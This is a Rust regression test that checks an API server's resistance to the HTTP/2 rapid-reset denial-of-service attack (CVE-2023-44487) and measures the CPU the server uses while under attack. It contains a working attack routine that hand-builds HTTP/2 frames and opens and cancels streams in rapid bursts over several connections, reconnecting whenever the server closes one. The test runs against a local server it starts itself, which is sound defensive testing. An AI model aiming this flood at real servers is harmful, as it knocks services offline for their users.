//! Rapid reset (CVE-2023-44487) by a client with credentials. Regression: requests that an
//! authorized client cancelled at once, within the limit of concurrent streams, cost 1.4 cores.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::pem::PemObject as _;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};

use crate::client::Connection;
use crate::program::{Access, ServerProcess};

const CONNECTIONS: usize = 8;
/// Streams at a time: fewer than the number at which the server closes the connection.
const BURST: u32 = 15;
/// The promise, in cores. Without optimization a request costs several times as much.
const CORES: f64 = if cfg!(debug_assertions) { 0.6 } else { 0.2 };

/// Appends a frame of HTTP/2.
fn frame(sent: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap();
    sent.extend(&length.to_be_bytes()[1..]);
    sent.extend([kind, flags]);
    sent.extend(stream.to_be_bytes());
    sent.extend(payload);
}

/// A `GET` of a watch, which has no end of its own.
fn head(token: &str) -> Vec<u8> {
    // `:method: GET` and `:scheme: https`, and three literals with indexed names.
    let mut head = vec![0x82, 0x87];
    let mut literal = |name: &[u8], value: &str| {
        head.extend(name);
        head.push(u8::try_from(value.len()).unwrap());
        head.extend(value.as_bytes());
    };
    literal(&[4], "/api/v1/namespaces/default/configmaps?watch=1");
    literal(&[1], "localhost");
    // 23, beyond the prefix of four bits.
    literal(&[15, 23 - 15], &format!("Bearer {token}"));
    head
}

async fn connect(access: &Access) -> tokio_rustls::client::TlsStream<TcpStream> {
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_slice(access.ca.as_bytes()).unwrap()).unwrap();
    let builder = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()));
    let builder = builder.with_safe_default_protocol_versions().unwrap();
    let mut config = builder.with_root_certificates(roots).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let stream = TcpStream::connect(access.address).await.unwrap();
    let name = ServerName::try_from("localhost").unwrap();
    TlsConnector::from(Arc::new(config)).connect(name, stream).await.unwrap()
}

/// Opens watches and cancels them, again and again; reconnects when the server closes.
async fn attack(access: Access) {
    let head = head(&access.token);
    loop {
        let (mut read, mut write) = tokio::io::split(connect(&access).await);
        let mut sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(&mut sent, 4, 0, 0, &[]);
        frame(&mut sent, 4, 1, 0, &[]);
        let writes = async {
            for burst in 0_u32.. {
                let streams = (burst * BURST..(burst + 1) * BURST).map(|number| 2 * number + 1);
                for stream in streams.clone() {
                    frame(&mut sent, 1, 5, stream, &head);
                }
                if write.write_all(&sent).await.is_err() || write.flush().await.is_err() {
                    break;
                }
                sent.clear();
                // Until the requests are in work.
                sleep(Duration::from_millis(2)).await;
                for stream in streams {
                    frame(&mut sent, 3, 0, stream, &8_u32.to_be_bytes());
                }
            }
        };
        let reads = async {
            let mut ignored = [0; 4096];
            while read.read(&mut ignored).await.is_ok_and(|length| length > 0) {}
        };
        tokio::select! {
            biased;
            () = writes => {}
            () = reads => {}
        }
    }
}

/// The time on processors of a process: user and system, in ticks of a hundredth of a second.
fn processor_time(id: u32) -> Duration {
    let stat = std::fs::read_to_string(format!("/proc/{id}/stat")).unwrap();
    let fields = stat.rsplit(") ").next().unwrap().split(' ').collect::<Vec<_>>();
    let ticks: u64 = fields[11..13].iter().map(|field| field.parse::<u64>().unwrap()).sum();
    Duration::from_millis(ticks * 10)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn authorized_rapid_resets_are_slowed_down() {
    let home = tempfile::tempdir().unwrap();
    let server = ServerProcess::start(&["--memory", "--listen", "127.0.0.1:0"], home.path()).await;
    let mut attackers = JoinSet::new();
    for _ in 0..CONNECTIONS {
        attackers.spawn(attack(server.access.clone()));
    }
    // The budget of the user is used up.
    sleep(Duration::from_secs(3)).await;
    let (begun, before) = (Instant::now(), processor_time(server.id()));
    let mut slowest = Duration::ZERO;
    while begun.elapsed() < Duration::from_secs(4) {
        let asked = Instant::now();
        // The same user: cancellations slow only their own connections down.
        let polite =
            async { Connection::to(&server.access).await.unwrap().get("/api/v1/namespaces").await.0 };
        assert_eq!(timeout(Duration::from_secs(10), polite).await.expect("in time"), 200);
        slowest = slowest.max(asked.elapsed());
        sleep(Duration::from_millis(200)).await;
    }
    let used = (processor_time(server.id()) - before).as_secs_f64() / begun.elapsed().as_secs_f64();
    assert!(used <= CORES, "{used} cores; the slowest polite request took {slowest:?}");
    assert!(attackers.try_join_next().is_none(), "all attackers are at work");
    server.kill().await;
}
